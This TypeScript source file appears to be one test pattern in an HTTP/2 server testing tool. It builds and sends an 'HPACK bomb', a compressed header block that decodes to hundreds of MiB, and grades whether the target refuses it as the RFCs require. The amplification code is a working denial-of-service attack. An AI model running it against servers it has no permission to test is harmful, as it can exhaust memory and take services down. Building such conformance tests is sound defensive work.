/**
 * HPACK bomb: one literal fills the decoder's dynamic table with a single large entry, and the rest of the
 * block refers to it one octet at a time — a 64 KiB block that decodes to a quarter of a gigabyte.
 */
import { Engagement } from '../engagement.ts';
import { continuationFrame, FIRST_DYNAMIC_INDEX, headersFrame, indexedField, literalWithIndexing, requestBlock } from '../frames.ts';
import { answer, answeredStreams, closed, goaway, notDelivered, rst, status } from './answers.ts';
import { definePattern } from './types.ts';

const BOMB_NAME = 'x-bomb';
/** RFC 7541 §4.1: an entry's size counts 32 octets beyond its name and value. */
const ENTRY_OVERHEAD_BYTES = 32;
/** Below this table size an entry is too small to amplify anything worth measuring. */
const MIN_TABLE_BYTES = 256;

/**
 * A request head, one literal that fills a dynamic table of `tableBytes` (RFC 7541 §4.1 sizes), and
 * one-octet references to it up to `blockBytes`; with how many octets the block decodes to.
 */
export function bombBlock(head: Buffer, tableBytes: number, blockBytes: number): { block: Buffer; decodedBytes: number } {
  const value = 'b'.repeat(tableBytes - ENTRY_OVERHEAD_BYTES - BOMB_NAME.length);
  const literal = literalWithIndexing(BOMB_NAME, value);
  const refs = Math.max(1, blockBytes - head.length - literal.length);
  return {
    block: Buffer.concat([head, literal, Buffer.alloc(refs, indexedField(FIRST_DYNAMIC_INDEX)[0]!)]),
    decodedBytes: (refs + 1) * (BOMB_NAME.length + value.length),
  };
}

export default definePattern({
  id: 'hpack-bomb',
  title: 'HPACK bomb',
  cve: null,
  year: 2016,
  summary: 'header blocks of one table-filling literal and thousands of one-octet references to it',
  expected: 'the header list refused — 431 (§10.5.1), RST_STREAM, or GOAWAY ENHANCE_YOUR_CALM / COMPRESSION_ERROR — never decoded whole into memory',
  rfc: 'RFC 9113 §6.5.2 (MAX_HEADER_LIST_SIZE), §10.5.1; RFC 7541 §7.3',
  defaults: { streams: 4, blockBytes: 65_536 },
  scaled: ['streams'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'bomb requests', p.streams);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const table = peer.settings.headerTableSize;
      if (table < MIN_TABLE_BYTES) {
        e.notes.push(`the target's HPACK table is ${table} B: too small for a bomb`);
        e.unitsPlanned = 0;
        return e.finish();
      }
      const { block, decodedBytes } = bombBlock(requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), table, p.blockBytes);
      e.notes.push(`each block: ${block.length.toLocaleString('en-US')} B that decode to ${(decodedBytes / 2 ** 20).toFixed(0)} MiB of header fields`);
      const frameBytes = peer.settings.maxFrameSize;
      const frames = (id: number): Buffer[] => {
        const out: Buffer[] = [];
        for (let off = 0; off < block.length; off += frameBytes) {
          const piece = block.subarray(off, off + frameBytes);
          const last = off + frameBytes >= block.length;
          out.push(off === 0 ? headersFrame(id, piece, { endStream: true, endHeaders: last }) : continuationFrame(id, piece, last));
        }
        return out;
      };
      const sent = await peer.writeUnits(p.streams, (i) => frames(2 * i + 1), ctx.budget);
      e.sent(sent);
      return e.finish(() => answeredStreams(peer) >= sent.units);
    }
    return e.finish();
  },
  judge(o) {
    const none = notDelivered(o);
    if (none !== null) return none;
    if (o.unitsPlanned === 0) return answer('expected', o, 'a table this small leaves nothing to amplify');
    if (status(o, (s) => s < 400 || s >= 500)) return answer('unexpected', o, 'accepted (and answered) a request whose header list decodes to hundreds of MiB');
    if (
      status(o, (s) => s >= 400) ||
      rst(o, ['ENHANCE_YOUR_CALM', 'PROTOCOL_ERROR', 'REFUSED_STREAM']) ||
      goaway(o, ['ENHANCE_YOUR_CALM', 'COMPRESSION_ERROR'])
    ) {
      return answer('expected', o, 'refused the oversized header list');
    }
    if (rst(o) || goaway(o) || closed(o)) return answer('tolerated', o, 'refused, with another code than the RFC names');
    return answer('unexpected', o, 'no answer to complete requests');
  },
});
